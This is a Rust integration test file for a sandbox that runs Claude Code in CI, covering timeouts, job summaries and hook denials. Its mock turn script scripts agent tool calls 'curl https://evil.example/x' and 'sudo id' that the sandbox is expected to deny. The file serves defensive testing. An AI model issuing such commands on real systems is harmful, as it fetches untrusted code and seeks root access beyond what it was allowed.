//! CI mode: `--timeout` ends a whole process tree that ignores SIGTERM, `--ci` runs the
//! self-test first, the job summary lists exactly the denials that happened in a run of the
//! real Claude Code, and `--fail-on-deny` turns them into exit 122.

mod support;

use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use support::*;

both!(timeout_ends_a_tree_that_ignores_sigterm, |w: &World| {
    let marker = format!(
        "{}",
        800_000 + std::process::id() % 90_000 + u32::from(w.who == Who::User)
    );
    let script = format!(
        "trap '' TERM; sleep {marker} & sleep {marker} & (trap '' TERM; sleep {marker}) & wait"
    );
    let start = Instant::now();
    let out = w
        .command(&["--timeout", "1s"], &["/bin/sh", "-c", &script])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(124), "{}", describe(&out));
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "took {:?}",
        start.elapsed()
    );
    assert!(
        !process_running(&["sleep", &marker]),
        "a process of the sandbox outlived --timeout"
    );
});

// An empty GITHUB_STEP_SUMMARY names no file: the run goes on (it once stopped with EISDIR, 120).
both!(an_empty_step_summary_names_no_file, |w: &World| {
    let out = w
        .command(&["--ci"], &["/bin/true"])
        .env("GITHUB_STEP_SUMMARY", "")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("GITHUB_STEP_SUMMARY"),
        "{}",
        describe(&out)
    );
});

both!(selftest_holds, |w: &World| {
    let mut cmd = w.as_owner(&w.run_binary().with_file_name("stepproof"));
    cmd.arg("selftest");
    let out = w.clean_env(&mut cmd).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(text.contains("0 escaped: the sandbox held"), "{text}");
    // The agent's layer is checked too (the default profile has a hook).
    for check in [
        "agent:managed_settings",
        "agent:drop_ins",
        "agent:managed_read_only",
        "agent:environment",
        "agent:hook",
    ] {
        assert!(
            text.lines()
                .any(|l| l.starts_with("held") && l.contains(check)),
            "{check}: {text}"
        );
    }
    assert!(
        text.lines().filter(|l| l.starts_with("held")).count() >= 20,
        "{text}"
    );
});

struct Mock(Child);

impl Drop for Mock {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The mock Messages API on 127.0.0.2 with a turn script; returns its port.
fn start_mock(w: &World, turns: &str) -> (Mock, u16) {
    let script = w.base.join("turns.json");
    fs::write(&script, turns).unwrap();
    let mut child = Command::new("python3")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/scripts/mock-anthropic.py"
        ))
        .arg("--script")
        .arg(&script)
        .arg("--record")
        .arg(w.base.join("requests.jsonl"))
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let port = line.trim().rsplit(':').next().unwrap().parse().unwrap();
    (Mock(child), port)
}

fn claude_available() -> bool {
    if Command::new("claude")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
    {
        return true;
    }
    skip_or_fail("Claude Code (npm @anthropic-ai/claude-code@2.1.328) is not installed");
    false
}

both!(
    summary_lists_exactly_the_denials_of_a_real_claude_run,
    |w: &World| {
        if !claude_available() {
            return;
        }
        let (_mock, port) = start_mock(
            w,
            r#"[{"tool":"Bash","input":{"command":"echo fine","description":"ok"}},
            {"tool":"Bash","input":{"command":"curl https://evil.example/x","description":"fetch"}},
            {"tool":"Bash","input":{"command":"sudo id","description":"root"}},
            {"text":"done"}]"#,
        );
        let profile = w.base.join("ci-test.toml");
        fs::write(
        &profile,
        format!(
            "extends = \"ci\"\n[network]\nallow = [\"127.0.0.2:{port}\"]\nallow_addresses = [\"127.0.0.2\"]\n[process]\nset_env = {{ ANTHROPIC_BASE_URL = \"http://127.0.0.2:{port}\", ANTHROPIC_API_KEY = \"sk-ant-mock-key-1234567890\", CLAUDE_CODE_MAX_RETRIES = \"1\" }}\n"
        ),
    )
    .unwrap();
        let out_dir = w.base.join("out");
        fs::create_dir_all(&out_dir).unwrap();
        fs::set_permissions(&out_dir, fs::Permissions::from_mode(0o777)).unwrap();
        fs::set_permissions(&profile, fs::Permissions::from_mode(0o644)).unwrap();
        let summary = out_dir.join("summary.md");
        let summary_json = out_dir.join("summary.json");
        let step_summary = out_dir.join("step-summary.md");
        // A summary from an earlier run is replaced, not appended to.
        fs::write(&summary, "EARLIER RUN\n").unwrap();
        chown_tree(&summary, w.owner);
        let args = [
            "--ci",
            "--fail-on-deny",
            "--profile",
            profile.to_str().unwrap(),
            "--summary",
            summary.to_str().unwrap(),
            "--summary-json",
            summary_json.to_str().unwrap(),
        ];
        let out = w
            .command(
                &args,
                &[
                    "claude",
                    "-p",
                    "do the work",
                    "--dangerously-skip-permissions",
                ],
            )
            .env("GITHUB_STEP_SUMMARY", &step_summary)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(122), "{}", describe(&out));
        let json: serde_json::Value =
            serde_json::from_str(&fs::read_to_string(&summary_json).unwrap()).unwrap();
        let denials = json["summary"]["denials"].as_array().unwrap();
        let rules: Vec<&str> = denials
            .iter()
            .map(|d| d["rule_id"].as_str().unwrap())
            .collect();
        assert_eq!(rules, ["net-tools-unattended", "privilege"], "{json}");
        assert_eq!(json["status"]["status"], "denied", "{json}");
        assert_eq!(json["status"]["command"]["exit_code"], 0, "{json}");
        let md = fs::read_to_string(&summary).unwrap();
        assert!(
            md.contains("Denied by the hook (2)") && md.contains("net-tools-unattended"),
            "{md}"
        );
        assert!(md.contains("127.0.0.2"), "{md}");
        // The header says how the run ended for the caller, after --fail-on-deny.
        assert!(md.contains("**denied** (exit 122)"), "{md}");
        assert!(!md.contains("EARLIER RUN"), "{md}");
        assert_eq!(
            fs::read_to_string(&step_summary).unwrap(),
            md,
            "GITHUB_STEP_SUMMARY differs"
        );
    }
);
